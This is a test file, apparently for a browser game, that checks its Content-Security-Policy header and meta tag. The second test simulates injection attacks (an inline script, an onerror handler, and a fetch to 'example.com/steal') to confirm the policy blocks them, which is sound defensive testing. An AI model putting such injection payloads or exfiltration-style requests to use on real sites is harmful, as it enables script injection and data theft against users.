import { afterEach, describe, expect, it } from 'vitest';
import { inject } from 'vitest';
import { openGame, type Session } from './browser';
import { newRound, onScreen, press, toDebrief } from './flow';

/**
 * Issue 20: the page defends itself. The built game is served with a Content-Security-Policy header
 * and carries the same policy in a meta tag; a whole round plays under it without one violation.
 */
const violations = (session: Session): Promise<string[]> =>
  session.page.evaluate(() => (Reflect.get(window, '__violations') as string[] | undefined) ?? []);

describe('the Content-Security-Policy (issue 20)', () => {
  let session: Session | undefined;
  afterEach(async () => session?.close());

  it('is served as a header and as a meta tag, and forbids inline script and eval', async () => {
    const response = await fetch(inject('baseUrl'));
    const header = response.headers.get('content-security-policy') ?? '';
    const html = await response.text();
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1] ?? '';
    for (const policy of [header, meta]) {
      expect(policy).toMatch(/(^|; )script-src 'self'(;|$)/);
      expect(policy).toMatch(/(^|; )connect-src 'self'/);
      expect(policy).toMatch(/(^|; )worker-src 'self'(;|$)/);
      expect(policy).toMatch(/(^|; )object-src 'none'(;|$)/);
      expect(policy).toMatch(/(^|; )base-uri 'none'(;|$)/);
      expect(policy).not.toMatch(/unsafe-inline|unsafe-eval|\*/);
    }
    // frame-ancestors works only in the header; a meta tag would only draw a console warning.
    expect(header).toMatch(/frame-ancestors 'none'/);
    expect(meta).not.toMatch(/frame-ancestors/);
    // The meta tag comes before anything it must govern: the inline style of the loading screen.
    expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.indexOf('<style'));
  });

  it('lets a whole round play without a single violation, and blocks what it should', async () => {
    session = await openGame('/', { width: 1280, height: 720 }, {}, async (context) => {
      await context.addInitScript(() => {
        const seen: string[] = [];
        Reflect.set(window, '__violations', seen);
        document.addEventListener('securitypolicyviolation', (e) =>
          seen.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`),
        );
      });
    });
    const { page } = session;
    await newRound(page);
    await toDebrief(page);
    await press(page, 'button', 'Back to the menu');
    await onScreen(page, 'menu');
    await press(page, 'button', 'Settings');
    await page.getByRole('list', { name: 'Kept saves' }).waitFor();
    expect(await violations(session)).toEqual([]);
    expect(session.errors).toEqual([]);
    // The engine runs in a Web Worker (issue 14): its script is served under the same policy (so zod must
    // run without its eval JIT there too), and what it violates is reported to the worker, which notes it.
    const [worker] = page.workers();
    if (worker === undefined) throw new Error('the engine worker is not running');
    const served = await fetch(worker.url());
    expect(served.headers.get('content-security-policy')).toMatch(/(^|; )script-src 'self'(;|$)/);
    expect(await worker.evaluate(() => Reflect.get(globalThis, '__astanaViolations'))).toEqual([]);

    // What an injection would try: an inline script, an inline handler, a request to another origin.
    // (Eval cannot be tried from here: DevTools' own evaluation is exempt; the header test shows no unsafe-eval.)
    const tried = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true';
      document.body.append(script);
      document.body.insertAdjacentHTML('beforeend', '<img src="/none.png" onerror="window.__handled = true">');
      await new Promise((resolve) => setTimeout(resolve, 300));
      let fetched: string;
      try {
        await fetch('https://example.com/steal');
        fetched = 'sent';
      } catch {
        fetched = 'blocked';
      }
      return {
        injected: Reflect.get(window, '__injected') === true,
        handled: Reflect.get(window, '__handled') === true,
        fetched,
      };
    });
    expect(tried).toEqual({ injected: false, handled: false, fetched: 'blocked' });
    // Each is reported once per policy: the header's and the meta tag's.
    await expect
      .poll(async () => [...new Set((await violations(session as Session)).map((v) => v.split(' ')[0]))].toSorted())
      .toEqual(['connect-src', 'script-src-attr', 'script-src-elem']);
  });
});
